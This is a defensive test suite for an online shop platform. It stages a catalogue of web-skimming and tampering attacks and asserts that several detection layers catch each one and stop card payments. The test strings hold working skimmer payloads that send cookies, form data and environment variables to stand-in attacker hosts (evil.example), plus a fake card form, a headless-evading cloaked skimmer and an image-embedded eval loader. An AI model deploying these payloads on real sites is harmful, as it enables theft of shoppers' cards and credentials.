import type { FastifyInstance } from 'fastify';
import type { Browser } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD } from '../../src/demo/demo-credentials.ts';
import { seedDemo } from '../../src/demo/seed-demo.ts';
import { sanitizeDescription } from '../../src/domains/catalog/description-sanitizer.ts';
import { processProductImage } from '../../src/domains/media/image-upload.process.ts';
import type { MonitorProfile } from '../../src/domains/monitor/monitor.tables.ts';
import { DEVELOPMENT_PROVIDER_HOSTS } from '../../src/domains/payments/provider-hosts.ts';
import { guardServerEgress } from '../../src/domains/security/egress-events.ts';
import { registerSettingsChangeHandler, SETTINGS_CHANGE_OUTBOX_KIND, setSettingsChangeWalkRequester } from '../../src/domains/security/settings-change.events.ts';
import { checkVerifierHeartbeat } from '../../src/domains/security/verifier-heartbeat.service.ts';
import { seedStaffUser, staffSessionToken } from '../../src/domains/staff/console.test-support.ts';
import { type MonitorRunSettings, runMonitorWalk } from '../../src/monitor/monitor-walk.run.ts';
import type { SessionCache } from '../../src/monitor/shop-walk.ts';
import { loadConfig } from '../../src/platform/config/config.ts';
import type { Database } from '../../src/platform/db/database.ts';
import type { Platform } from '../../src/platform/http/platform.ts';
import { loadApprovedScripts, SCRIPT_INVENTORY } from '../../src/platform/http/script-inventory.ts';
import { StaticAssets } from '../../src/platform/http/static-assets.ts';
import { deliverOutboxItem } from '../../src/platform/jobs/outbox.ts';
import { createLogger } from '../../src/platform/log/logger.ts';
import { ROUTES } from '../../src/web/routes.ts';
import { launchChromium } from '../chromium.ts';
import { signInSalon } from '../sign-in.ts';
import { createTestApp, csrfFrom } from '../test-app.ts';
import { createTestDatabase } from '../test-database.ts';
import {
  BUYER_EMAIL,
  buyerVisit,
  cardsStopped,
  dbNow,
  detectingLayers,
  eventsSince,
  listen,
  MONITOR_EMAIL,
  resetProtection,
  SHOP,
  SIGNED_DEPENDENCY,
  SignedTree,
  tamperPlugin,
  tamperState,
  timingOf,
  until,
} from './attack-harness.ts';

/**
 * BRIEF's attack catalogue against a running Oroshi (issue 7, item 8). Each scenario tampers the
 * way an attacker would — files on disk (checked by the real verifier over a signed copy of the
 * tree and of one production dependency), database texts written directly as the owner, settings
 * through a taken-over staff session, and what the restarted process then sends (a second app
 * instance on the same database) — then lets the ordinary traffic happen at once: a real buyer's
 * Chromium, the browser monitor's walk and a verifier pass. It asserts that at least two
 * independent layers raised the deviation and that card payments for the shop stopped, and prints
 * the seconds from tampering to detection and to containment, and what the traffic cost.
 */

const log = createLogger('silent');
let database: Database;
let clean: FastifyInstance;
let tampered: FastifyInstance;
let tamperedPlatform: Platform;
let cleanUrl: string;
let tamperedUrl: string;
let tenantId: string;
/** The product the buyer and the monitor open (the first link on the shop's home). */
let firstProductCode: string;
let browser: Browser;
let tree: SignedTree;
const sessions: SessionCache = new Map();
const walkRequests: { tenantId: string; reason: string }[] = [];
let unregisterSettingsChange: () => void = () => undefined;
const timings: { id: number; name: string; layers: string[]; detected_s: number | null; contained_s: number | null }[] = [];

function monitorSettings(url: string): MonitorRunSettings {
  return {
    database,
    log,
    config: { BASE_DOMAIN: undefined, pathTenants: true, baseOrigin: url, CHROMIUM_PATH: '/usr/bin/chromium', APP_ENV: 'test' },
    platformUrl: url,
    credentials: { email: MONITOR_EMAIL, password: DEMO_PASSWORD },
    sessions,
    autoApproveFirstBaseline: true,
  };
}

/** Seconds each kind of traffic took in the current scenario (printed with it: the suite must stay bounded). */
const spent = new Map<string, number>();
async function timed<T>(what: string, fn: () => Promise<T>): Promise<T> {
  const started = performance.now();
  try {
    return await fn();
  } finally {
    spent.set(what, (spent.get(what) ?? 0) + (performance.now() - started) / 1000);
  }
}

const monitorWalk = (profile: MonitorProfile = 'desktop', url = tamperedUrl) =>
  timed('walk', () => runMonitorWalk(monitorSettings(url), { tenantId, profile, reason: 'attack-suite' }));
const buyer = (profile: MonitorProfile = 'desktop', then?: Parameters<typeof buyerVisit>[2]['then']) =>
  timed('buyer', () => buyerVisit(browser, tamperedUrl, { profile, password: DEMO_PASSWORD, then }));
const verify = () => timed('verify', () => tree.verify(database));

beforeAll(async () => {
  database = await createTestDatabase();
  const built = await createTestApp(database);
  clean = built.app;
  await seedDemo(database, built.platform.secrets, log);
  cleanUrl = await listen(clean);
  const second = await createTestApp(database, { routes: [tamperPlugin(database), ...ROUTES] });
  tampered = second.app;
  tamperedPlatform = second.platform;
  tamperedUrl = await listen(tampered);
  tenantId = String((await database.ownerExec(`SELECT id FROM tenants WHERE slug = $1`, [SHOP])).rows[0]!.id);
  const home = await clean.inject({ url: `/s/${SHOP}/`, headers: { cookie: (await signInSalon(clean, BUYER_EMAIL, DEMO_PASSWORD, SHOP)).cookie } });
  firstProductCode = decodeURIComponent(/href="[^"]*\/p\/([^"/?]+)"/.exec(home.body)?.[1] ?? '');
  if (!firstProductCode) throw new Error('no product link on the shop home');
  browser = await launchChromium();
  tree = new SignedTree();
  // The jobs process's wiring of setting changes (src/background/jobs.ts): events, and a walk request.
  unregisterSettingsChange = registerSettingsChangeHandler(DEVELOPMENT_PROVIDER_HOSTS);
  setSettingsChangeWalkRequester(async (id, reason) => {
    walkRequests.push({ tenantId: id, reason });
  });
  // The approved baselines: one walk per profile of the unchanged site.
  for (const first of await traffic(monitorWalk('desktop', cleanUrl), monitorWalk('mobile', cleanUrl))) {
    if (first.error) throw new Error(`baseline walk failed: ${first.error}`);
  }
}, 240_000);

afterAll(async () => {
  console.info(`attack suite timings:\n${timings.map((t) => `  ${t.id}. ${t.name}: layers ${t.layers.join('+')} · detected ${t.detected_s}s · contained ${t.contained_s}s`).join('\n')}`);
  unregisterSettingsChange();
  setSettingsChangeWalkRequester(null);
  await browser?.close();
  await clean?.close();
  await tampered?.close();
  await database?.close();
  tree?.remove();
});

beforeEach(async () => {
  tamperState.html = null;
  tamperState.requests = [];
  spent.clear();
  walkRequests.length = 0;
  tree.restore();
  await resetProtection(database);
});

/**
 * The ordinary traffic of a scenario, at once, as it happens in production: a buyer's browser, the
 * monitor's walk and the verifier's pass are independent of each other.
 */
function traffic<T extends unknown[]>(...work: { [K in keyof T]: Promise<T[K]> }): Promise<T> {
  return Promise.all(work) as Promise<T>;
}

/** The tampered process's static files and approved scripts for the length of `fn` (a restart on the tampered tree). */
async function withPlatformAssets(assets: StaticAssets, fn: () => Promise<void>, scripts = loadApprovedScripts(assets).approved): Promise<void> {
  const original = { assets: tamperedPlatform.assets, scripts: tamperedPlatform.scripts };
  Object.assign(tamperedPlatform, { assets, scripts });
  try {
    await fn();
  } finally {
    Object.assign(tamperedPlatform, original);
  }
}

/**
 * An attacker who can write the server's files appends to the first-party bundle the checkout loads
 * and rebuilds the script inventory with the new hash: the restarted process approves the bytes, the
 * page's SRI and hash-only CSP admit them, and the skimmer runs in the buyer's browser. What it does
 * next is the scenario.
 */
async function serveTamperedBundle(js: string, fn: () => Promise<void>): Promise<void> {
  tree.tamper('static/js/postal-fill.js', (src) => src + js);
  const assets = new StaticAssets(tree.file('static/'));
  const rebuilt = assets.get('js/postal-fill.js').sha384;
  const approved = SCRIPT_INVENTORY.find((s) => s.id === 'postal-fill')!.sha384;
  tree.tamper('src/platform/http/script-inventory.ts', (src) => src.replace(approved, rebuilt));
  const inventory = SCRIPT_INVENTORY.map((s) => (s.id === 'postal-fill' ? { ...s, sha384: rebuilt } : s));
  await withPlatformAssets(assets, fn, loadApprovedScripts(assets, inventory).approved);
}

/** The common ending: at least two layers, cards stopped, timing printed. */
async function expectCaught(id: number, name: string, since: Date, options: { atLeast?: number; mustInclude?: string[] } = {}): Promise<string[]> {
  await until(async () => detectingLayers(await eventsSince(database, tenantId, since)).length >= (options.atLeast ?? 2), 3000);
  const events = await eventsSince(database, tenantId, since);
  const layers = detectingLayers(events);
  const timing = timingOf(events, since);
  timings.push({ id, name, layers, ...timing });
  const took = [...spent].map(([what, seconds]) => `${what} ${seconds.toFixed(1)}s`).join(' ');
  console.info(`${id}. ${name}: layers ${layers.join('+')} · detected ${timing.detected_s}s · contained ${timing.contained_s}s · ${took} · ${[...new Set(events.map((e) => `${e.severity}:${e.layer}:${e.kind}`))].join(', ')}`);
  expect(layers.length, `layers: ${layers.join(',')}`).toBeGreaterThanOrEqual(options.atLeast ?? 2);
  for (const layer of options.mustInclude ?? []) expect(layers).toContain(layer);
  expect(await cardsStopped(database, tenantId)).toBe(true);
  return layers;
}

const SKIM_JS = `;(function(){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/c.gif?d='+encodeURIComponent(JSON.stringify([...document.forms].map(function(f){return new FormData(f)})))})})();\n`;

describe('attack catalogue', () => {
  it('0. control: unchanged pages walked by buyer, monitor and verifier raise nothing', async () => {
    const since = await dbNow(database);
    const [, , desktop, mobile, pass] = await traffic(buyer('desktop'), buyer('mobile'), monitorWalk('desktop'), monitorWalk('mobile'), verify());
    for (const walk of [desktop, mobile]) {
      expect(walk.error).toBeNull();
      expect(walk.judgement?.outcome, JSON.stringify(walk.judgement?.diff.deviations.map((d) => [d.kind, d.step, d.summary, d.detail]))).toBe('clean');
    }
    expect(pass.problems).toBe(0);
    await new Promise((r) => setTimeout(r, 500));
    expect(await eventsSince(database, tenantId, since)).toEqual([]);
    expect(await cardsStopped(database, tenantId)).toBe(false);
  }, 120_000);

  it('1. code appended to a first-party JS bundle', async () => {
    const since = await dbNow(database);
    tree.tamper('static/js/postal-fill.js', (js) => js + SKIM_JS);
    // The process restarted on the tampered files: its inventory check refuses the changed bundle.
    const assets = new StaticAssets(tree.file('static/'));
    const originalAssets = tamperedPlatform.assets;
    const originalScripts = tamperedPlatform.scripts;
    Object.assign(tamperedPlatform, { assets, scripts: loadApprovedScripts(assets).approved });
    try {
      await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
    } finally {
      Object.assign(tamperedPlatform, { assets: originalAssets, scripts: originalScripts });
    }
    await expectCaught(1, 'code appended to a first-party JS bundle', since, { mustInclude: ['build_verifier', 'render_refusal'] });
  }, 120_000);

  it('2. external <script> injected through a DB-stored text (product description, bypassing the sanitiser)', async () => {
    const saved = await database.ownerExec(`SELECT id, description_html FROM products WHERE tenant_id = $1 AND code = $2`, [tenantId, firstProductCode]);
    const since = await dbNow(database);
    // The product every visit opens (the first on the shop's home): one row is all an attacker needs.
    await database.ownerExec(`UPDATE products SET description_html = description_html || '<script src="https://cdn.evil.example/skim.js"></script>' WHERE tenant_id = $1 AND code = $2`, [tenantId, firstProductCode]);
    try {
      await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
      await expectCaught(2, 'external <script> through a DB-stored text', since, { mustInclude: ['db_text_verifier', 'render_refusal'] });
    } finally {
      for (const row of saved.rows) await database.ownerExec(`UPDATE products SET description_html = $2 WHERE id = $1`, [row.id, row.description_html]);
    }
  }, 120_000);

  it('3. fake card form on the shop’s own checkout ("payment failed, enter again")', async () => {
    const since = await dbNow(database);
    const fakeForm =
      '<section class="panel"><p class="alert alert--error">決済に失敗しました。もう一度カード情報を入力してください。</p><form method="post" action="https://pay-oroshi.evil.example/collect"><input name="cardnumber" autocomplete="cc-number" inputmode="numeric" maxlength="19"><input name="cvc" autocomplete="cc-csc" maxlength="4"><button type="submit">再送信</button></form></section>';
    tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${fakeForm}\n`);
    tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</main>', `${fakeForm}</main>`) : html);
    const fallsForIt = buyer('desktop', async (page) => {
      // The buyer falls for it: types a card and submits. The CSP's form-action stops the post and reports it.
      if ((await page.locator('input[name="cardnumber"]').count()) === 0) return;
      await page.fill('input[name="cardnumber"]', '4111111111111111');
      await page.fill('input[name="cvc"]', '123');
      await page.locator('form[action*="evil"] button').evaluate((b: HTMLElement) => b.click());
    });
    await traffic(fallsForIt, monitorWalk('desktop'), verify());
    await expectCaught(3, 'fake card form before the PSP step', since, { atLeast: 3, mustInclude: ['browser_monitor', 'csp_report', 'build_verifier'] });
  }, 120_000);

  it('4. redirect hijack: the form that sends the buyer on is pointed at a look-alike', async () => {
    const since = await dbNow(database);
    tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// action -> https://pay-oroshi.evil.example\n`);
    tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace(/action="([^"]*\/checkout)"/g, 'action="https://pay-oroshi.evil.example$1"') : html);
    const sentOn = buyer('desktop', async (page) => {
      const form = page.locator('form[action*="evil.example"]');
      if ((await form.count()) === 0) return;
      await form.locator('[type="submit"]').first().evaluate((b: HTMLElement) => b.click());
    });
    await traffic(sentOn, monitorWalk('desktop'), verify());
    await expectCaught(4, 'redirect hijack to a look-alike', since, { mustInclude: ['csp_report'] });
  }, 120_000);

  it('5. exfiltration by image beacon (new Image().src = …?d=)', async () => {
    const since = await dbNow(database);
    const beacon = `<script>new Image().src='https://cdn.evil.example/b.gif?d='+encodeURIComponent(document.body.innerText.slice(0,200))</script>`;
    tree.tamper('src/platform/views/layout.tsx', (src) => `${src}\n// ${beacon}\n`);
    tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</body>', `${beacon}</body>`) : html);
    await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
    await expectCaught(5, 'image beacon', since, { atLeast: 3, mustInclude: ['csp_report', 'browser_monitor'] });
  }, 120_000);

  it('9. inline handler in an SVG (<svg onload=…>) stored in a description', async () => {
    const payload = `<svg onload="new Image().src='https://cdn.evil.example/s.gif?d='+document.cookie"></svg>`;
    // Through the shop's editor the sanitiser strips it on write (layer: sanitiser-on-write refusal).
    const sanitised = sanitizeDescription(`<p>説明</p>${payload}`);
    expect('html' in sanitised ? sanitised.html : '').not.toMatch(/onload|<svg/i);
    const saved = await database.ownerExec(`SELECT id, description_html FROM products WHERE tenant_id = $1 AND code = $2`, [tenantId, firstProductCode]);
    const since = await dbNow(database);
    // The attacker with database access writes it behind the sanitiser's back.
    await database.ownerExec(`UPDATE products SET description_html = description_html || $3 WHERE tenant_id = $1 AND code = $2`, [tenantId, firstProductCode, payload]);
    try {
      await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
      await expectCaught(9, 'inline handler in an SVG', since, { mustInclude: ['db_text_verifier', 'render_refusal'] });
    } finally {
      for (const row of saved.rows) await database.ownerExec(`UPDATE products SET description_html = $2 WHERE id = $1`, [row.id, row.description_html]);
    }
  }, 120_000);

  it('13. server-side tampering of the payment module on disk (this incident)', async () => {
    const since = await dbNow(database);
    const redirect = 'https://pay-oroshi.evil.example/checkout';
    tree.tamper('src/domains/payments/card-payment.service.ts', (src) => `${src}\nexport const __skim = ${JSON.stringify(redirect)};\n`);
    // What the tampered module makes the process send: the pay step posts to the attacker.
    tamperState.html = (html) => html.replace(/action="([^"]*\/checkout(?:\/place)?)"/g, `action="${redirect}"`);
    const sentOn = buyer('desktop', async (page) => {
      const form = page.locator('form[action*="evil.example"]');
      if ((await form.count()) > 0) await form.locator('[type="submit"]').first().evaluate((b: HTMLElement) => b.click());
    });
    await traffic(verify(), sentOn, monitorWalk('desktop'));
    await expectCaught(13, 'payment module tampered on disk', since, { mustInclude: ['build_verifier'] });
  }, 120_000);

  it('13b. tamper with the verifier itself: caught by the running verifier, and its silence by the dead-man’s switch', async () => {
    const since = await dbNow(database);
    tree.tamper('src/verifier/verifier-pass.ts', (src) => src.replace('return { at, manifestOk: true', 'return { at, manifestOk: true, check: { modified: [], added: [], missing: [] } as never, manifestError: null, manifestCreatedAt: null, manifestKeyId: "", verifierFilesTouched: [] };\n  return { at, manifestOk: true'));
    const pass = await verify();
    expect(pass.raised.map((r) => r.severity)).toContain('critical');
    const kinds = (await eventsSince(database, tenantId, since)).map((e) => e.kind);
    expect(kinds).toContain('build.verifier-tampered');
    // The attacker then stops the verifier: no heartbeat for two intervals.
    await database.ownerExec(`UPDATE verifier_heartbeats SET checked_at = now() - interval '5 minutes'`);
    await checkVerifierHeartbeat(database, { intervalSeconds: 30, since: new Date(Date.now() - 3_600_000) });
    await expectCaught(13.5, 'tamper with the verifier', since, { mustInclude: ['build_verifier', 'dead_mans_switch'] });
  }, 60_000);

  it('12. cloaked skimmer: checkout only, mobile only, skips the monitor’s identity and headless browsers', async () => {
    const since = await dbNow(database);
    const skimmer = `<script>if(!navigator.webdriver&&!/Headless/.test(navigator.userAgent)){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/m.gif'});document.currentScript.remove()}</script>`;
    tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${skimmer}\n`);
    let servedToMonitor = 0;
    let servedToBuyer = 0;
    tamperState.html = (html, ctx) => {
      if (!ctx.path.endsWith('/checkout') || !/Mobile/.test(ctx.userAgent)) return html;
      if (ctx.userEmail === MONITOR_EMAIL) {
        servedToMonitor++;
        return html;
      }
      servedToBuyer++;
      return html.replace('</body>', `${skimmer}</body>`);
    };
    const walk = await monitorWalk('mobile');
    expect(walk.judgement?.outcome).toBe('clean');
    expect(servedToMonitor).toBeGreaterThan(0);
    await traffic(buyer('mobile'), verify());
    expect(servedToBuyer).toBeGreaterThan(0);
    const layers = await expectCaught(12, 'cloaked skimmer', since, { mustInclude: ['csp_report', 'build_verifier'] });
    expect(layers).not.toContain('browser_monitor');
  }, 120_000);

  it('15. security headers weakened or removed (CSP dropped / unsafe-inline / moved to <meta>)', async () => {
    const since = await dbNow(database);
    tree.tamper('src/platform/http/security-headers.ts', (src) => `${src}\n// moved CSP to <meta>, added 'unsafe-inline'\n`);
    tamperState.html = (html, ctx, reply) => {
      if (!ctx.path.endsWith('/checkout')) return html;
      const csp = String(reply.getHeader('content-security-policy') ?? '');
      reply.removeHeader('content-security-policy');
      const weakened = csp.replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline'").replace(/;\s*report-uri [^;]*/, '');
      return html.replace('<head>', `<head><meta http-equiv="Content-Security-Policy" content="${weakened.replace(/"/g, '&quot;')}">`);
    };
    await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
    await expectCaught(15, 'security headers weakened', since, { mustInclude: ['browser_monitor', 'build_verifier'] });
  }, 120_000);

  it('6. exfiltration through an allowed endpoint: the page’s own origin (the only one the CSP allows)', async () => {
    // Oroshi allows no analytics or other third-party endpoint: connect-src and img-src are 'self'. So the
    // allowed endpoint to abuse is Oroshi's own origin — the data lands in its request log, which the
    // attacker who rebuilt the bundle can read. The CSP has nothing to object to; two other layers must.
    const since = await dbNow(database);
    await serveTamperedBundle(
      `;document.addEventListener('submit',function(){var d=[].map.call(document.querySelectorAll('input:not([type=hidden])'),function(i){return i.name+'='+i.value}).join('&');navigator.sendBeacon('/assets/px.gif?d='+encodeURIComponent(d))},true);\n`,
      async () => {
        const typesAndGoesOn = buyer('desktop', async (page) => {
          await page.locator('form[action$="/checkout"] [type="submit"]').first().click();
        });
        await traffic(typesAndGoesOn, monitorWalk('desktop'), verify());
      },
    );
    expect(tamperState.requests.some((u) => u.startsWith('/assets/px.gif?d=')), 'the skimmer ran and its beacon reached the allowed origin').toBe(true);
    const layers = await expectCaught(6, 'exfiltration through an allowed endpoint', since, { mustInclude: ['browser_monitor', 'build_verifier'] });
    expect(layers).not.toContain('csp_report');
  }, 120_000);

  it('7. exfiltration over WebSocket', async () => {
    const since = await dbNow(database);
    await serveTamperedBundle(`;try{var ws=new WebSocket('wss://ws.evil.example/c');ws.onopen=function(){ws.send(document.cookie)}}catch(e){}\n`, async () => {
      await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
    });
    await expectCaught(7, 'exfiltration over WebSocket', since, { atLeast: 3, mustInclude: ['csp_report', 'browser_monitor', 'build_verifier'] });
    const kinds = (await eventsSince(database, tenantId, since)).map((e) => e.kind);
    expect(kinds).toContain('csp.connect-src');
  }, 120_000);

  it('8. payload hidden in an image and eval’ed by a small loader', async () => {
    const payload = `/*P*/new Image().src='https://cdn.evil.example/f.gif?d='+encodeURIComponent(document.cookie)`;
    // Through the catalog's upload the image is re-encoded to pixels: nothing rides along (layer: re-encode on write).
    const carrier = Buffer.concat([await sharp({ create: { width: 32, height: 32, channels: 3, background: '#c33' } }).png().toBuffer(), Buffer.from(payload)]);
    const processed = await processProductImage(carrier);
    expect(processed.renditions.every((r) => !r.body.includes(Buffer.from('/*P*/')))).toBe(true);
    const since = await dbNow(database);
    // So the attacker plants it in an image on disk, and a loader in the bundle fetches it and evals the tail.
    tree.append('static/demo/apron.webp', payload);
    const imageUrl = new StaticAssets(tree.file('static/')).url('demo/apron.webp');
    await serveTamperedBundle(
      `;fetch('${imageUrl}').then(function(r){return r.text()}).then(function(t){var i=t.lastIndexOf('/*P*/');if(i>=0)eval(t.slice(i))}).catch(function(){});\n`,
      async () => {
        await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
      },
    );
    expect(tamperState.requests).toContain(imageUrl);
    await expectCaught(8, 'payload in an image, eval’ed by a loader', since, { atLeast: 3, mustInclude: ['csp_report', 'browser_monitor', 'build_verifier'] });
  }, 120_000);

  it('10. payload carried in a stylesheet', async () => {
    const since = await dbNow(database);
    tree.tamper('static/css/app.css', (css) => `@import url("https://cdn.evil.example/k.css");\n${css}\nbody{background-image:url("https://cdn.evil.example/k.gif?d=1")}\n`);
    // The process restarted on the tampered files serves the new stylesheet (style-src 'self' admits the file itself).
    await withPlatformAssets(new StaticAssets(tree.file('static/')), async () => {
      await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
    });
    const layers = await expectCaught(10, 'payload carried in a stylesheet', since, { mustInclude: ['csp_report', 'build_verifier'] });
    expect(layers).toContain('browser_monitor');
  }, 120_000);

  it('11. a trusted dependency turned malicious (supply chain: the HTML renderer)', async () => {
    const since = await dbNow(database);
    const injected = '<script src="https://cdn.evil.example/r.js"></script>';
    tree.tamper(`${SIGNED_DEPENDENCY}/dist/index.mjs`, (js) => `${js}\n;(function(){try{fetch('https://collector.evil.example/e?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))}catch(e){}})();\n`);
    // What the poisoned renderer does in the restarted process: every page gets the skimmer tag, and it phones home.
    const egress = await guardServerEgress({ config: loadConfig({ APP_ENV: 'test', DATABASE_URL: process.env.DATABASE_URL }), database, log }, { refreshMs: 3_600_000 });
    tamperState.html = (html) => {
      void fetch('https://collector.evil.example/e?d=env').catch(() => undefined);
      return html.replace('</body>', `${injected}</body>`);
    };
    try {
      await traffic(buyer('desktop'), monitorWalk('desktop'), verify());
      await until(async () => (await eventsSince(database, tenantId, since)).some((e) => e.layer === 'egress'));
    } finally {
      egress.stop();
    }
    await expectCaught(11, 'trusted dependency turned malicious', since, { atLeast: 3, mustInclude: ['build_verifier', 'csp_report', 'browser_monitor'] });
    const kinds = (await eventsSince(database, tenantId, since)).map((e) => `${e.layer}:${e.kind}`);
    expect(kinds).toContain('egress:egress.blocked');
  }, 120_000);

  it('14. admin account taken over, then a malicious setting (the payment provider pointed at a look-alike)', async () => {
    // The attacker holds a shop admin's session, freshly stepped up (a phished password and TOTP code).
    // Oroshi has no setting that adds a script or edits the CSP (no tracking-code field; descriptions are
    // sanitised on write, scenario 9): the payment endpoints are the setting to abuse.
    const demoAdmin = await database.ownerExec(`SELECT id FROM staff_users WHERE tenant_id = $1 AND role = 'shop_admin' AND status = 'active' ORDER BY created_at LIMIT 1`, [tenantId]);
    const adminId = demoAdmin.rows[0] ? String(demoAdmin.rows[0].id) : (await seedStaffUser(database, { tenantId, role: 'shop_admin' })).id;
    const cookie = `oroshi_session=${await staffSessionToken(database, { id: adminId, tenantId })}`;
    const base = `/admin/${SHOP}/payments`;
    const page = await clean.inject({ url: base, headers: { cookie } });
    const csrf = csrfFrom(page);
    const since = await dbNow(database);
    const evil = 'https://pay-oroshi.evil.example';
    const saved = await clean.inject({
      method: 'POST',
      url: `${base}/key`,
      headers: { cookie: `${cookie}; ${csrf.cookie}`, 'sec-fetch-site': 'same-origin' },
      payload: { _csrf: csrf.token, secretKey: 'sk_live_attackerControlled0000', apiBaseUrl: evil, hostedPageOrigin: evil, captureMethod: 'automatic' },
    });
    expect(saved.statusCode).toBe(303);
    try {
      // The outbox worker's delivery of the committed change (run inline: this suite runs no job queue).
      const queued = await database.ownerExec(`SELECT id, tenant_id FROM outbox WHERE kind = $1 AND delivered_at IS NULL`, [SETTINGS_CHANGE_OUTBOX_KIND]);
      expect(queued.rows.length).toBeGreaterThan(0);
      for (const row of queued.rows) await deliverOutboxItem(database, { outboxId: String(row.id), tenantId: (row.tenant_id as string | null) ?? null }, log);
      expect(walkRequests).toContainEqual({ tenantId, reason: 'settings:payments.provider_key_set' });
      await verify();
      await expectCaught(14, 'admin takeover, malicious payment setting', since, { mustInclude: ['settings_change', 'db_text_verifier'] });
    } finally {
      await database.ownerExec(`DELETE FROM provider_accounts WHERE tenant_id = $1`, [tenantId]);
    }
  }, 120_000);
});
